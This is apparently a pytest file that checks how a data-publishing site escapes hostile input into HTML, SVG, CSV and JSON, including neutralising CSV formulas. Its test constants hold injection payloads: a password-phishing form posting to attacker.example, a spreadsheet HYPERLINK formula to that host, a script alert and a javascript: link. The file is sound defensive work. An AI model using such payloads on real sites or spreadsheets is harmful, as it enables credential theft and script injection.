"""Every string from the data or the glossary is escaped on its way into HTML, SVG, CSV and JSON: markup in a
label or a note stays text, and a CSV cell a spreadsheet would run as a formula is neutralised (OWASP)."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from conftest import build, replace_once

from scripts.checks import safety
from scripts.core.policy import for_root
from scripts.generators import downloads, glossary_page

FORM = '<form action="https://attacker.example/"><input type="password" name="pw"></form>'
FORMULA = '=HYPERLINK("https://attacker.example/","Police stations")'
SCRIPT = "<script>alert(1)</script> Criminal cases filed"


def run(project: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "scripts", *args], cwd=project, capture_output=True, text=True, timeout=300
    )


def test_markup_in_the_data_and_the_glossary_reaches_every_output_as_text(project_copy: Path, tmp_path: Path) -> None:
    replace_once(
        project_copy / "data" / "figures" / "police.yml", "en: Police stations}", f"en: {json.dumps(FORMULA)}}}"
    )
    replace_once(
        project_copy / "data" / "figures" / "headline.yml", "en: Criminal cases filed}", f"en: {json.dumps(SCRIPT)}}}"
    )
    replace_once(
        project_copy / "data" / "glossary.yml",
        'note: "Family name first, in pinyin.',
        f'note: "{FORM.replace(chr(34), chr(39))} [click](javascript:alert(1)) Family name first, in pinyin.',
    )
    replace_once(  # a term with a tooltip: its note becomes the title of each <abbr> on the English pages
        project_copy / "data" / "glossary.yml",
        'note: "Contract staff who assist',
        f'note: "{FORM.replace(chr(34), chr(39))} Contract staff who assist',
    )
    for command in (["tables"], ["glossary", "--write"]):
        result = run(project_copy, *command)
        assert result.returncode == 0, result.stdout + result.stderr
    assert safety.check_markdown(project_copy / "docs", for_root(project_copy)) == []

    figures = (project_copy / "docs" / "zh" / "downloads" / "hurricane2016-figures.csv").read_text(encoding="utf-8")
    row = next(r for r in csv.DictReader(io.StringIO(figures)) if r["key"] == "police-stations")
    assert row["label_en"] == "'" + FORMULA and row["value"] == "2350"
    data = json.loads(
        (project_copy / "docs" / "zh" / "downloads" / "hurricane2016-data.json").read_text(encoding="utf-8")
    )
    assert {f["key"]: f["label"]["en"] for f in data["figures"]}["criminal-cases"] == SCRIPT

    site = tmp_path / "site"
    result = build(project_copy, site)
    assert result.returncode == 0, result.stderr
    assert safety.check_html(site, for_root(project_copy)) == []
    glossary = (site / "en" / "glossary" / "index.html").read_text(encoding="utf-8")
    assert "&lt;form action=" in glossary and "<form action" not in glossary
    assert "[click](javascript:alert(1))" in glossary and 'href="javascript:' not in glossary
    assert "&lt;script&gt;alert(1)&lt;/script&gt; Criminal cases filed" in (
        site / "en" / "data" / "index.html"
    ).read_text(encoding="utf-8")
    titles = [
        str(abbr.get("title", ""))
        for page in (site / "en").rglob("index.html")
        for abbr in BeautifulSoup(page.read_text(encoding="utf-8"), "lxml").find_all("abbr")
    ]
    assert any(t.startswith("辅警: <form action='https://attacker.example/'>") for t in titles)  # text, in an attribute
    charts = "".join(p.read_text(encoding="utf-8") for p in (site / "en" / "charts").glob("*.svg"))
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in charts and "<script>" not in charts


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_cell_that_starts_like_a_formula_is_neutralised(start: str) -> None:
    text = downloads._csv(["label"], [[f"{start}1+1"]])
    written = "\n" if start == "\r" else start  # a carriage return is written as a line feed, in quotes
    assert list(csv.reader(io.StringIO(text, newline="")))[1] == [f"'{written}1+1"]


def test_numbers_stay_numbers_and_other_text_stays_as_it_is() -> None:
    text = downloads._csv(["change", "year", "label"], [[Decimal("-38.2"), 2016, "Police officers"], [None, 1, "—"]])
    assert list(csv.reader(io.StringIO(text)))[1:] == [["-38.2", "2016", "Police officers"], ["", "1", "—"]]


def test_glossary_text_is_escaped_for_markdown() -> None:
    assert glossary_page.escape("<b>*x*</b> [a](b) {: .c } & _d_") == (
        "&lt;b&gt;\\*x\\*&lt;/b&gt; \\[a\\](b) \\{: .c \\} &amp; \\_d\\_"
    )
